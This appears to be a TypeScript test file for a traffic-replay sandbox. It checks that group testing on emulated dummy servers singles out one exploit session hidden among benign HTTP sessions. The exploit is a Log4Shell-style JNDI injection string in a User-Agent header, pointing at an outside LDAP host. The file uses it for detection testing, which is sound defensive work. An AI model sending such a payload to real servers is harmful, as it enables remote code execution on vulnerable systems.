/**
 * Group testing: many benign sessions from several sources share leases with one exploit; when a
 * shared dummy is compromised, re-tests on fresh dummies find the culprit, with a number of
 * re-tests that grows with the logarithm of the batch, not with its size.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { buildPcap, synthesizeTcpExchange } from '../../src/capture/index.ts';
import { Counters, LinkType, type Frame } from '../../src/core/index.ts';
import { createEmulatedFarm, runAnalyzeJob } from '../../src/daemon/index.ts';
import { findCulprits } from '../../src/replay/index.ts';
import { defaultCatalogue } from '../../src/sandbox/index.ts';

const TARGET = '10.20.0.5';
const EXPLOIT_SOURCE = '10.30.0.77';

function httpExchange(client: string, port: number, request: string, second: number): Frame[] {
  return synthesizeTcpExchange({
    client: { ip: client, port },
    server: { ip: TARGET, port: 8080 },
    turns: [
      { direction: 'to_server', data: Buffer.from(request, 'latin1'), time: { seconds: second, nanoseconds: 0 } },
      { direction: 'to_client', data: Buffer.from('HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n'), time: { seconds: second, nanoseconds: 5_000_000 } },
    ],
  });
}

function mixedCapture(benignCount: number): Buffer {
  const frames: Frame[] = [];
  for (let index = 0; index < benignCount; index++) {
    const source = `10.40.${index % 5}.${10 + index}`; // several sources
    const request = `GET /catalogue/item/${index * 7919} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/${100 + index}\r\nAccept: */*\r\n\r\n`;
    frames.push(...httpExchange(source, 40_000 + index, request, 1_700_000_000 + index * 10));
    if (index === Math.floor(benignCount / 2)) {
      const exploit = `GET /catalogue HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: \${jndi:ldap://10.66.0.1:1389/o}\r\nAccept: */*\r\n\r\n`;
      frames.push(...httpExchange(EXPLOIT_SOURCE, 51_000, exploit, 1_700_000_000 + index * 10 + 5));
    }
  }
  return buildPcap(LinkType.ETHERNET, frames);
}

test('the culprit among 32 sessions in shared leases is named after a logarithmic number of re-tests', async () => {
  const directory = mkdtempSync(join(tmpdir(), 'crashtest-group-'));
  const file = join(directory, 'mixed.pcap');
  writeFileSync(file, mixedCapture(31));
  const counters = new Counters();
  const farm = createEmulatedFarm({ counters });
  try {
    const result = await runAnalyzeJob([file], {
      catalogue: defaultCatalogue(),
      lease: farm.lease,
      counters,
      // every job goes into shared leases, the exploit included: only group testing can find it
      isolateSuspicious: false,
      batchSize: 32,
    });
    const compromised = result.verdicts.filter((verdict) => verdict.level === 'compromised');
    assert.ok(compromised.length > 0, 'the exploit compromises a Log4j dummy');
    for (const verdict of compromised) {
      assert.equal(verdict.sender.ip, EXPLOIT_SOURCE);
      assert.equal(verdict.replay, 'group-test');
    }
    assert.deepEqual(result.verdicts.filter((verdict) => verdict.sender.ip !== EXPLOIT_SOURCE), []);
    // a group test runs per profile whose shared dummy showed anything (the patched Log4j records an
    // attempt too); each costs at most 2 re-tests per halving of 32 jobs
    const searches = result.counters['analyze.group_tests'] ?? 0;
    const retests = result.counters['analyze.group_test_detonations'] ?? 0;
    assert.ok(searches >= 1 && searches <= 3, `${searches} group tests`);
    assert.ok(retests > 0);
    assert.ok(retests <= searches * 2 * Math.ceil(Math.log2(32)), `${retests} re-tests in ${searches} group test(s)`);
  } finally {
    await farm.close();
    rmSync(directory, { recursive: true, force: true });
  }
});

test('findCulprits: one culprit among n costs at most 2·log2(n) tests, and several culprits are all found', async () => {
  for (const size of [2, 7, 64, 1000]) {
    const items = Array.from({ length: size }, (_, index) => index);
    const culprit = Math.floor(size / 3);
    const found = await findCulprits(items, async (subset) => subset.includes(culprit));
    assert.deepEqual(found.culprits, [culprit]);
    assert.ok(found.tests <= 2 * Math.ceil(Math.log2(size)), `${found.tests} tests for ${size}`);
  }
  const found = await findCulprits([1, 2, 3, 4, 5, 6, 7, 8], async (subset) => subset.some((item) => item === 2 || item === 7));
  assert.deepEqual(found.culprits.sort(), [2, 7]);
});
